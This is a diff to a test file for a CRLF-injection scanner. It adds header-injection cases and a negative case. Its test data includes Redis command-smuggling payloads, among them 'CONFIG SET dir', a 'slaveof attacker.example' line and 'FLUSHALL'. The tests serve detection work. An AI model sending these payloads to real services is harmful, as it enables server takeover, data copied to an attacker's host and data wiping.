@@ -38,6 +38,9 @@ CTX = ScanContext()
         ("k\r\nCONFIG SET dir /var/www/html\r\n", "HG-CRLF-006"),
         ("k\nslaveof attacker.example 6379", "HG-CRLF-006"),
         ("k\r\nFLUSHALL\r\n", "HG-CRLF-006"),
+        # a header line in place of the value itself, any name (a scanner's own)
+        ("\r\nProbe7: 1234", "HG-CRLF-001"),
+        ("\u560d\u560aProbe7: 1234", "HG-CRLF-001"),
     ],
 )
 def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
@@ -65,6 +68,7 @@ def test_line_break_in_the_request_path() -> None:
         assert found is not None and found.rule_id == "HG-CRLF-004", location
     assert crlf.scan("line one\nline two", ScanContext(location="body.path")) is None  # a body field so named
     assert crlf.scan("Dear team,\r\nget well soon", CTX) is None
+    assert crlf.scan("Hello\nNote: see below", CTX) is None  # (a line of text first: no value opening with a header)
 
 
 def test_cloudwatch_log_lines_are_not_forged_logs() -> None:
